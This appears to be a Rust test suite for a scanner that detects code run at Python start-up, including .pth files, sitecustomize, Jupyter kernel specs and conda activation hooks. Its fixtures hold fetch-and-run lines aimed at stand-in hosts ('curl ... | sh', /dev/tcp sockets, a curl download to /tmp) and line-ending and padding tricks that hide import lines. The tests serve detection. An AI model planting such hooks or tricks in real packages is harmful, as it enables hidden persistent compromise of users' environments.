//! `.pth` and `.start` files are read as `site` reads them: universal newlines (a lone CR ends a
//! line) and, from Python 3.13, a leading byte order mark dropped. Either trick must not hide
//! an import line.

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::scan_file;

fn findings(name: &str, data: &[u8]) -> Vec<(&'static str, Severity, Option<u64>)> {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join(name);
    std::fs::write(&p, data).expect("write");
    let r = scan_file(&p, BudgetLimits::default());
    r.findings
        .iter()
        .map(|f| {
            let line = match f.location.span {
                Some(airlock::finding::Span::Line { line }) => Some(line),
                _ => None,
            };
            (f.rule.id, f.severity, line)
        })
        .collect()
}

#[test]
fn a_lone_carriage_return_ends_a_pth_line() {
    let f = findings(
        "paths.pth",
        b"# only paths here\rimport os;os.system('echo hi')\n/opt/lib\n",
    );
    assert!(
        f.contains(&("pth-executable-line", Severity::Low, Some(2))),
        "{f:?}"
    );
    assert!(
        f.iter()
            .any(|(id, sev, _)| *id == "python-shell-command" && *sev >= Severity::High),
        "{f:?}"
    );
}

#[test]
fn a_byte_order_mark_does_not_hide_a_pth_import_line() {
    let f = findings("bom.pth", b"\xef\xbb\xbfimport os;os.system('echo hi')\n");
    assert!(
        f.iter()
            .any(|(id, sev, _)| *id == "python-shell-command" && *sev >= Severity::High),
        "{f:?}"
    );
}

#[test]
fn start_entries_split_on_every_line_end() {
    let f = findings(
        "tool.start",
        b"# entry points\rpkg.mod:hook\r\nother.mod:run\n",
    );
    let entries: Vec<_> = f
        .iter()
        .filter(|(id, _, _)| *id == "startup-entry-point")
        .map(|(_, _, line)| *line)
        .collect();
    assert_eq!(entries, vec![Some(2), Some(3)], "{f:?}");
}

/// Whether some finding of `rule` is at `min` or above.
fn has(f: &[(&'static str, Severity, Option<u64>)], rule: &str, min: Severity) -> bool {
    f.iter().any(|(id, sev, _)| *id == rule && *sev >= min)
}

#[test]
fn every_line_end_of_str_splitlines_ends_a_pth_line() {
    // Python 3.13's `site` iterates `str.splitlines()`, which ends lines at these too.
    for sep in [
        "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\u{85}", "\u{2028}", "\u{2029}",
    ] {
        let data = format!("# harmless path file{sep}import os; os.system('echo airlock-test')\n");
        let f = findings("paths.pth", data.as_bytes());
        assert!(
            f.contains(&("pth-executable-line", Severity::Low, Some(2))),
            "{sep:?}: {f:?}"
        );
        assert!(
            has(&f, "python-shell-command", Severity::High),
            "{sep:?}: {f:?}"
        );
    }
}

#[test]
fn a_line_python_3_12_runs_whole_is_read_whole_too() {
    // 3.12 reads one line (`\x0c` is whitespace to its tokenizer); 3.13 two.
    let f = findings(
        "paths.pth",
        b"import os;\x0cos.system('echo airlock-test')\n",
    );
    assert!(has(&f, "python-shell-command", Severity::High), "{f:?}");
}

#[test]
fn a_pth_that_is_not_utf8_is_read_in_a_single_byte_encoding() {
    // `site` falls back to the locale's encoding; in Latin-1, 0x85 is NEL, a line end.
    let f = findings(
        "paths.pth",
        b"# caf\xe9\nimport os; os.system('echo airlock-test')\n",
    );
    assert!(has(&f, "python-shell-command", Severity::High), "{f:?}");
    let f = findings(
        "paths.pth",
        b"# caf\xe9\x85import os; os.system('echo airlock-test')\n",
    );
    assert!(has(&f, "python-shell-command", Severity::High), "{f:?}");
}

/// A `.pth` line that starts `curl` or `wget` from an argument list (no shell) downloads at
/// every interpreter start: the network at startup is high (tester t10, e02).
#[test]
fn a_pth_line_running_a_downloader_reaches_the_network() {
    let f = findings(
        "boot.pth",
        b"import subprocess; subprocess.Popen(['curl','-s','https://c2.example.invalid/p','-o','/tmp/.p'])\n",
    );
    assert!(has(&f, "python-network-at-load", Severity::High), "{f:?}");
    let quiet = findings(
        "boot.pth",
        b"import subprocess; subprocess.Popen(['git','--version'])\n",
    );
    assert!(
        !has(&quiet, "python-network-at-load", Severity::Low),
        "{quiet:?}"
    );
}

/// Scan a folder and return (file name, rule, severity) of every finding.
fn scan_tree(files: &[(&str, &str)]) -> Vec<(String, &'static str, Severity)> {
    let dir = tempfile::tempdir().expect("tempdir");
    for (name, text) in files {
        let p = dir.path().join(name);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(&p, text).expect("write");
    }
    let opts = airlock::scan::ScanOptions {
        paths: vec![dir.path().to_path_buf()],
        exclude: Vec::new(),
        jobs: 1,
        limits: BudgetLimits::default(),
        yara: None,
    };
    let report = airlock::scan::scan(&opts, &|_, _| {}).expect("scan");
    report
        .files
        .iter()
        .flat_map(|f| {
            let name = f
                .path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            f.findings
                .iter()
                .map(move |x| (name.clone(), x.rule.id, x.severity))
        })
        .collect()
}

#[test]
fn what_a_pth_line_calls_in_a_module_runs_at_every_start() {
    let body = "import os\n\ndef install():\n    os.system('echo airlock')\n";
    let shaped = [
        ("import m01mod; m01mod.install()\n", "m01mod.py"),
        ("import os; __import__('m02mod').go()\n", "m02mod.py"),
        ("import m04pkg.boot as b; b.run()\n", "m04pkg/boot.py"),
        // setuptools' exact line: the shape vouches for the line, not for the callee.
        (
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
            "_distutils_hack/__init__.py",
        ),
    ];
    for (line, module) in shaped {
        let pth = if module.starts_with("_distutils") {
            "distutils-precedence.pth"
        } else {
            "x.pth"
        };
        let function = match module {
            "m02mod.py" => "go",
            "m04pkg/boot.py" => "run",
            "_distutils_hack/__init__.py" => "add_shim",
            _ => "install",
        };
        let src = body.replace("install", function);
        let mut files = vec![(pth, line), (module, src.as_str())];
        if module.starts_with("m04pkg") {
            files.push(("m04pkg/__init__.py", ""));
        }
        let f = scan_tree(&files);
        let base = module.rsplit('/').next().expect("name");
        assert!(
            f.iter().any(|(n, id, sev)| n == base
                && *id == "python-shell-command"
                && *sev >= Severity::High),
            "{line}: {f:?}"
        );
    }
    // The same helper that no start-up line calls stays low.
    let f = scan_tree(&[("x.pth", "import m01mod\n"), ("m01mod.py", body)]);
    assert!(
        f.iter()
            .filter(|(_, id, _)| *id == "python-shell-command")
            .all(|(_, _, sev)| *sev == Severity::Low),
        "{f:?}"
    );
}

fn wheel(members: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, data) in members {
        w.start_file(*name, zip::write::SimpleFileOptions::default())
            .expect("member");
        w.write_all(data).expect("write");
    }
    w.finish().expect("finish").into_inner()
}

#[test]
fn sitecustomize_as_a_package_or_an_extension_module_is_a_startup_hook() {
    let elf = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00";
    let cases: [(&str, &[u8], Severity); 4] = [
        (
            "sitecustomize/__init__.py",
            b"print('airlock')\n",
            Severity::Medium,
        ),
        (
            "usercustomize/__init__.py",
            b"print('airlock')\n",
            Severity::Medium,
        ),
        (
            "sitecustomize.cpython-311-x86_64-linux-gnu.so",
            elf,
            Severity::High,
        ),
        // Inside a package folder `site` never imports it.
        (
            "pkg/sitecustomize/__init__.py",
            b"print('airlock')\n",
            Severity::Low,
        ),
    ];
    for (member, data, severity) in cases {
        let whl = wheel(&[
            (member, data),
            (
                "w-1.0.dist-info/METADATA",
                b"Metadata-Version: 2.1\nName: w\nVersion: 1.0\n",
            ),
        ]);
        let f = findings("w-1.0-py3-none-any.whl", &whl);
        assert!(
            f.iter()
                .any(|(id, sev, _)| *id == "startup-hook-file" && *sev == severity),
            "{member}: {f:?}"
        );
    }
    // Unowned in a virtual environment's site-packages: an orphan loader.
    let f = scan_tree(&[
        ("venv/pyvenv.cfg", "home = /usr/bin\n"),
        (
            "venv/lib/python3.11/site-packages/w-1.0.dist-info/RECORD",
            "w/__init__.py,,\n",
        ),
        ("venv/lib/python3.11/site-packages/w/__init__.py", ""),
        (
            "venv/lib/python3.11/site-packages/sitecustomize/__init__.py",
            "print('airlock')\n",
        ),
    ]);
    assert!(
        f.iter().any(|(n, id, sev)| n == "__init__.py"
            && *id == "startup-file-unowned"
            && *sev == Severity::High),
        "{f:?}"
    );
}

#[test]
fn kernel_specs_and_conda_activation_hooks_a_wheel_installs_are_startup_code() {
    let meta: (&str, &[u8]) = (
        "w-1.0.dist-info/METADATA",
        b"Metadata-Version: 2.1\nName: w\nVersion: 1.0\n",
    );
    let kernel = "w-1.0.data/data/share/jupyter/kernels/python3/kernel.json";
    let hook = "w-1.0.data/data/etc/conda/activate.d/w.sh";
    let cases: [(&str, &[u8], Option<Severity>); 9] = [
        (
            kernel,
            br#"{"argv": ["sh", "-c", "echo airlock; exec python -m ipykernel_launcher -f {connection_file}"], "display_name": "Python 3", "language": "python"}"#,
            Some(Severity::High),
        ),
        (
            kernel,
            br#"{"argv": ["python", "-c", "import os; os.system('echo airlock')"], "display_name": "Python 3", "language": "python"}"#,
            Some(Severity::High),
        ),
        (
            kernel,
            br#"{"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"], "display_name": "Python 3", "language": "python"}"#,
            None,
        ),
        (
            hook,
            b"#!/bin/sh\ncurl -fsSL https://c.example.invalid/a.sh | sh\n",
            Some(Severity::High),
        ),
        (hook, b"#!/bin/sh\nexport GDAL_DATA=\"$CONDA_PREFIX/share/gdal\"\n", Some(Severity::Low)),
        // A hook that leaves a process running, or reaches the network, at every activation
        // (tester t18 w05b); redirections (`2>&1`), `&&` lists and a path ending in a
        // network tool's name are not that.
        (hook, b"#!/bin/sh\necho airlock >/dev/null 2>&1 &\n", Some(Severity::High)),
        (hook, b"#!/bin/bash\nnohup $CONDA_PREFIX/bin/w-agent >/dev/null 2>&1\n", Some(Severity::High)),
        (hook, b"#!/bin/bash\nexec 3<>/dev/tcp/c.example.invalid/443\n", Some(Severity::High)),
        (
            hook,
            b"#!/bin/bash\n[ -d \"$CONDA_PREFIX/etc/ssh\" ] && export SSH_DIR=$CONDA_PREFIX/etc/ssh\nw-config --check >/dev/null 2>&1 && export W_OK=1\n",
            Some(Severity::Low),
        ),
    ];
    let rules = std::sync::Arc::new(airlock::yara::YaraRules::builtin().expect("rules"));
    // Padding the argv past any count, or nesting the spec past the JSON parser's bound,
    // hides nothing (tester t19).
    let mut padded = vec!["python".to_string()];
    padded.extend(std::iter::repeat_n("-X1".to_string(), 200));
    padded.extend([
        "-c".to_string(),
        "import os; os.system('echo airlock')".to_string(),
    ]);
    let padded = serde_json::to_vec(&serde_json::json!({"argv": padded})).expect("json");
    let deep = format!(
        "{{\"argv\": [\"python\", \"-m\", \"ipykernel_launcher\"], \"metadata\": {}1{}}}",
        "[".repeat(200),
        "]".repeat(200)
    );
    let huge = format!(
        "{{\"argv\": [\"python\", \"-m\", \"ipykernel_launcher\"], \"pad\": \"{}\"}}",
        "x".repeat(2 << 20)
    );
    let cases: Vec<(&str, &[u8], Option<Severity>)> = cases
        .into_iter()
        .chain([
            (kernel, padded.as_slice(), Some(Severity::High)),
            (kernel, deep.as_bytes(), Some(Severity::High)),
            (kernel, huge.as_bytes(), Some(Severity::High)),
        ])
        .collect();
    for (member, data, want) in cases {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path().join("w-1.0-py3-none-any.whl");
        std::fs::write(&p, wheel(&[(member, data), meta])).expect("write");
        let r = airlock::scan::scan_file_with(&p, BudgetLimits::default(), Some(rules.clone()));
        let f: Vec<(&str, Severity, Option<u64>)> = r
            .findings
            .iter()
            .map(|x| (x.rule.id, x.severity, None))
            .collect();
        let got = f
            .iter()
            .filter(|(id, _, _)| *id == "startup-hook-file" || *id == "resource-limit")
            .map(|(_, s, _)| *s)
            .max();
        assert_eq!(
            got,
            want,
            "{member}: {}: {f:?}",
            String::from_utf8_lossy(data)
        );
    }
}

/// A Jupyter config fragment a wheel installs (`.data/data/etc/jupyter/
/// jupyter_server_config.d/*.json`) makes every Jupyter server start import the extension and
/// call its loading hook (tester t18 w04): a command there is code run at load; the same
/// module not enabled stays low.
#[test]
fn jupyter_server_extensions_a_wheel_enables_run_at_load() {
    let meta: (&str, &[u8]) = (
        "w-1.0.dist-info/METADATA",
        b"Metadata-Version: 2.1\nName: w\nVersion: 1.0\n",
    );
    let module: (&str, &[u8]) = (
        "w/__init__.py",
        b"import os\n\ndef _jupyter_server_extension_points():\n    return [{'module': 'w'}]\n\ndef _load_jupyter_server_extension(app):\n    os.system('echo airlock')\n",
    );
    for (enabled, want) in [("true", Severity::High), ("false", Severity::Low)] {
        let config =
            format!("{{\"ServerApp\": {{\"jpserver_extensions\": {{\"w\": {enabled}}}}}}}");
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path().join("w-1.0-py3-none-any.whl");
        let cfg = (
            "w-1.0.data/data/etc/jupyter/jupyter_server_config.d/w.json",
            config.as_bytes(),
        );
        std::fs::write(&p, wheel(&[module, cfg, meta])).expect("write");
        let r = airlock::scan::scan_file(&p, BudgetLimits::default());
        let got = r
            .findings
            .iter()
            .filter(|x| x.rule.id == "python-shell-command")
            .map(|x| x.severity)
            .max();
        assert_eq!(got, Some(want), "{enabled}");
    }
}
